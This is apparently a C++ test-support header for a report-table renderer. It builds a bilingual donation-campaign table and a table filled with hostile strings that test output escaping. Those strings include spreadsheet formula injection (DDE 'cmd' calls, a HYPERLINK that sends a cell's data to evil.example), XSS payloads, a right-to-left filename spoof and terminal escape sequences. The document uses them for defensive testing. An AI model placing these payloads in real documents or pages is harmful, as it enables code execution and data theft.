// Tables to render: one as a town hall would have it, and one that means harm.

#pragma once

#include "obole/reports/table.hpp"
#include "support/catch.hpp"

#include <string>
#include <vector>

namespace support {

using obole::Currency;
using obole::Language;
using obole::Money;
using obole::reports::Cell;
using obole::reports::Column;
using obole::reports::Share;
using obole::reports::Table;

inline Cell euros(std::int64_t cents) { return Money(cents, Currency::eur()); }

inline Cell day(int year, int month, int day_of_month) {
  return obole::Date(std::chrono::year(year) / month / day_of_month);
}

inline Table roof_campaign() {
  constexpr auto number = Column::Kind::number;
  Table table;
  table.what = "report-campaign";
  table.title = {"Campaign TOIT: where it stands",
                 "Campagne TOIT\u00A0: où elle en est"};
  table.notes = {{{"As of", "Au"}, "2026-12-31"}, {{"Root", "Racine"}, "9f86"}};
  table.columns = {{"donor", {"Donor", "Donateur"}},
                   {"received_on", {"Received on", "Reçu le"}},
                   {"amount", {"Amount", "Montant"}, number},
                   {"share", {"Share", "Part"}, number},
                   {"gifts", {"Gifts", "Dons"}, number},
                   {"receipt", {"Receipt", "Reçu fiscal"}}};
  table.rows = {
      {"Éloïse Lefèvre", day(2026, 3, 1), euros(125000), Share{8725},
       std::int64_t{3}, true},
      {"山田", day(2026, 11, 24), euros(-5), Share{25}, std::int64_t{1}, false},
      {"Anonyme", {}, euros(18250), Share{1250}, std::int64_t{12}, {}}};
  table.totals = {{}, {}, euros(143245), Share{10000}, std::int64_t{16}, {}};
  return table;
}

/// A table of one column of texts.
inline Table list_of(const std::vector<std::string>& texts) {
  Table table;
  table.what = "list";
  table.title = {"List", "Liste"};
  table.columns = {{"name", {"Name", "Nom"}}};
  for (const auto& text : texts)
    table.rows.push_back({text});
  return table;
}

inline const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> texts = {
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
      "+1+1",
      "-2+3+cmd|' /C calc'!E1",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "'=1+1",
      "''",
      "a;=1+1",
      "a,=1+1",
      "\"quoted\"",
      "\"",
      "two\r\nlines",
      " spaces ",
      "pipe | pipe",
      "\\| escaped",
      "<script>alert(1)</script>",
      "</td></table><img src=x onerror=alert(1)>",
      "\"><b onmouseover='x()'>",
      "&lt;b&gt; &amp; &#60;",
      "**bold** _it_ `code` ~~gone~~ # $x$",
      "[click](javascript:alert(1))",
      "<https://evil.example>",
      "invoice\u202Efdp.exe",
      "zero\u200Bwidth\uFEFF",
      "\x1B]0;title\x07\x1B[2J",
      "\u009B31m",
      "C:\\temp",
      "caf\xE9",
      "",
  };
  return texts;
}

/// The same hostile texts everywhere a text can stand.
inline Table hostile_table() {
  Table table = list_of(hostile_texts());
  const auto all = [] {
    std::string joined;
    for (const auto& text : hostile_texts())
      joined += text;
    return joined;
  }();
  table.title = {all, all};
  table.notes = {{{all, all}, all}};
  table.columns[0].heading = {all, all};
  table.totals = {all};
  return table;
}

/// Whether `text` would do something to a terminal: any control but a line
/// end, a bidirectional override, a zero-width space or a mark of byte order.
inline bool disturbs_a_terminal(const std::string& text) {
  for (const char* each : {"\u202E", "\u200B", "\uFEFF", "\u009B"})
    if (text.find(each) != std::string::npos) return true;
  for (const char each : text)
    if ((each >= 0 && each < ' ' && each != '\n') || each == 0x7F) return true;
  return false;
}

}  // namespace support
